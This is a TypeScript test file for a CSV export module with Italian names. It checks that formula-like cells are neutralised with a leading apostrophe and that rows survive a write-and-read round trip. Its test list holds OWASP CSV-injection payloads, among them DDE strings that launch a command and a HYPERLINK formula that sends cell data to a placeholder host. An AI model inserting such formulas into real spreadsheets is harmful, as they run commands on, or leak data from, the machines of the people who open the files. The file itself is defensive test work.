import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { innocuo } from '#domain/importazioni/innocuo.ts';
import { type ColonnaFile, cellaCsv, siContaInExcel } from './celle.ts';
import { leggiCsv } from './csv-lettura.ts';
import type { Cella } from './righe.ts';
import { scriviCsv } from './scrivi.ts';

/** What OWASP («CSV Injection») names, and the ways around a check of the first character. */
const INIEZIONI = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://esempio.example?x="&A1,"premi")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '\tciao',
  '--1',
];

describe('una formula non entra in un CSV', () => {
  test.each(INIEZIONI)('%j comincia con un apostrofo', (testo) => {
    expect(innocuo(testo)).toBe(`'${testo}`);
    expect(cellaCsv(testo, 'testo')).toMatch(/^"?'/);
  });

  test.each(['-5', '+39', '-1.234,50', '-0,005', 'BTP 3,5%', '3=3', 'a@b.it', 'È vero', '«x»', ''])(
    '%j resta com’è',
    (testo) => {
      expect(innocuo(testo)).toBe(testo);
    },
  );

  test('nemmeno da una colonna di numeri o di date che porta parole', () => {
    expect(cellaCsv('=1+1', 'numero')).toBe("'=1+1");
    expect(cellaCsv('=1+1', 'data')).toBe("'=1+1");
    expect(cellaCsv('-1.5', 'numero')).toBe('-1,5');
    expect(cellaCsv('Totale', 'numero')).toBe('Totale');
  });
});

test.each([
  ['123456789012345', true],
  ['-0.00123456789012345', true],
  ['1234567890123456', false],
  ['1000000000000000000', true],
  ['0.1234567890123456', false],
  ['100.0100', true],
])('%s si conta in Excel: %s', (numero, siConta) => {
  expect(siContaInExcel(numero)).toBe(siConta);
});

const colonne: ColonnaFile[] = [
  { titolo: 'A', tipo: 'testo' },
  { titolo: 'B', tipo: 'numero' },
  { titolo: 'C', tipo: 'data' },
];
const giorno = fc
  .date({ min: new Date('1900-01-01'), max: new Date('2199-12-31'), noInvalidDate: true })
  .map((data) => data.toISOString().slice(0, 10));
const numero = fc
  .tuple(fc.integer(), fc.nat({ max: 99_999 }))
  .map(([intera, frazione]) => `${intera}.${frazione}`);
/** Something in each row: a reader steps over blank lines. */
const riga = fc.tuple(
  fc.string({ unit: 'binary', minLength: 1 }).map((t) => `x${t.replace(/\r\n|\r/g, '\n')}`),
  fc.option(numero),
  fc.option(giorno),
);

test('qualunque riga scritta si rilegge uguale', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(riga, { minLength: 1, maxLength: 20 }), async (righe) => {
      async function* blocchi() {
        yield righe;
      }
      const lette: (readonly Cella[])[] = [];
      for await (const blocco of leggiCsv(scriviCsv(colonne, blocchi()), 'utf-8'))
        lette.push(...blocco.righe);
      expect(lette.slice(1)).toEqual(
        righe.map(([testo, n, data]) => [
          Buffer.from(testo).toString(),
          n?.replace('.', ',') ?? '',
          data?.split('-').reverse().join('/') ?? '',
        ]),
      );
    }),
    { numRuns: 300 },
  );
});
